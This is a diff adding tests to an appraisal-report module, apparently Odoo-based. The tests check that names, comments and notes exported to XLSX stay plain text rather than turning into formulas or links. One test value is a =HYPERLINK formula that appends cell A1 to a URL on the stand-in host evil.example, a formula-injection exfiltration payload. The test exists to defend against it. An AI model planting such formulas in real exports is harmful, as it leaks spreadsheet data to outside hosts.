@@ -26,6 +26,11 @@ TABLE_HEADER = [
     "Supervisor Points",
     "Result",
 ]
+#: Texts that a spreadsheet would run or link if they were written as formulas,
+#: links or numbers.
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+URL = "http://evil.example"
+ARRAY = "{=1+1}"
 
 
 @tagged("post_install", "-at_install")
@@ -351,6 +356,111 @@ class TestReports(KpiCase):
         self.assertFalse(Attachment.with_user(self.user_hr).search(domain))
         with self.assertRaises(AccessError):
             attachment.with_user(self.user_hr).raw  # noqa: B018
+
+    # ------------------------------------------------------------------
+    # Texts stay texts
+    # ------------------------------------------------------------------
+
+    def assert_texts_only(self, book, texts):
+        """No cell of ``book`` is a formula or a link, and each of ``texts`` is in
+        a string cell; returns ``{text: cell}``."""
+        found = {}
+        for sheet in book.worksheets:
+            self.assertFalse(sheet._hyperlinks, sheet.title)
+            for row in sheet.iter_rows():
+                for cell in row:
+                    self.assertNotEqual(cell.data_type, "f", cell.coordinate)
+                    self.assertIsNone(cell.hyperlink, cell.coordinate)
+                    if cell.value in texts:
+                        self.assertEqual(cell.data_type, "s", cell.coordinate)
+                        found.setdefault(cell.value, cell)
+        self.assertEqual(set(found), set(texts))
+        return found
+
+    def test_xlsx_texts_are_never_formulas(self):
+        """What users type is written as text, in both exports; numbers stay numbers.
+
+        The employee comment, the supervisor comment, the line notes, the template,
+        indicator, employee, department and job names hold formulas, a link and
+        texts that look like formulas to a spreadsheet.
+        """
+        template = self.create_template("T-TEXTS", name="@SUM(A1)")
+        indicators = {i.code: i for i in template.section_ids.indicator_ids}
+        indicators["ATT"].name = "+1+1"
+        indicators["RESP"].name = HYPERLINK
+        indicators["COMPL"].target = "-2+3"
+        indicators["CUST"].criteria = "@SUM(A1)"
+        indicators["TEAM"].name = URL
+        indicators["VETO"].name = ARRAY
+        self.emp_agent.name = HYPERLINK
+        self.dept_service.name = "-2+3"
+        self.emp_agent.job_id.name = URL
+        # the new lines copy the indicator texts from the database
+        self.env.flush_all()
+        appraisal = self.create_appraisal(
+            template=template,
+            date_from=self.period["date_from"].replace(month=11),
+            date_to=self.period["date_to"].replace(month=11, day=30),
+        )
+        self.walk(appraisal, until="self_review")
+        as_agent = appraisal.with_user(self.user_agent)
+        as_agent.employee_comment = HYPERLINK
+        self.line(as_agent, "ATT").self_note = "-2+3"
+        self.walk(appraisal, until="manager_review")
+        as_lead = appraisal.with_user(self.user_lead)
+        as_lead.note = f"<p>{URL}</p>"
+        self.line(as_lead, "ATT").note = "+1+1"
+        self.line(as_lead, "TEAM").note = ARRAY
+        self.walk(appraisal)
+
+        _attachment, book = self.download(as_lead.action_export_xlsx())
+        found = self.assert_texts_only(
+            book,
+            {
+                "@SUM(A1) Appraisal Form",
+                f"Employee: {HYPERLINK}",
+                "Department: -2+3",
+                f"Job: {URL}",
+                "+1+1",
+                HYPERLINK,
+                "-2+3",
+                "@SUM(A1)",
+                URL,
+                ARRAY,
+            },
+        )
+        sheet = book.active
+        self.assertEqual(found["@SUM(A1) Appraisal Form"].coordinate, "A1")
+        comments = {row[0].value: row[2] for row in sheet.iter_rows(min_row=7)}
+        for label, text in [
+            ("Employee Comment", HYPERLINK),
+            ("Supervisor Comment", URL),
+        ]:
+            self.assertEqual(comments[label].value, text)
+            self.assertEqual(comments[label].data_type, "s")
+        numbers = [row[7] for row in sheet.iter_rows(min_row=7) if row[1].value]
+        self.assertEqual(
+            [cell.value for cell in numbers], appraisal.line_ids.mapped("points")
+        )
+        self.assertEqual({cell.data_type for cell in numbers}, {"n"})
+        pay = {row[0].value: row[7] for row in sheet.iter_rows(min_row=7)}
+        self.assertEqual(pay["Performance Pay"].value, appraisal.performance_pay)
+        self.assertEqual(pay["Performance Pay"].data_type, "n")
+        self.assertEqual(pay["Total Score"].data_type, "n")
+
+        _attachment, book = self.download(as_lead.action_export_summary_xlsx())
+        self.assert_texts_only(book, {"+1+1", HYPERLINK, "-2+3", URL, ARRAY})
+        sheet = book["Summary"]
+        self.assertEqual(
+            self.row(sheet, 1, 14)[:11],
+            ["Employee No.", "Employee", "Department", "Job"]
+            + ["+1+1", HYPERLINK, "投诉次数", "以客户为中心", URL, ARRAY]
+            + ["Total Score"],
+        )
+        self.assertEqual(self.row(sheet, 2, 4), ["A0001", HYPERLINK, "-2+3", URL])
+        types = [cell.data_type for cell in sheet[2]]
+        self.assertEqual(types[4:11] + types[12:13], ["n"] * 8, "points and pay")
+        self.assertEqual(sheet["M2"].value, appraisal.performance_pay)
 
     # ------------------------------------------------------------------
     # Languages
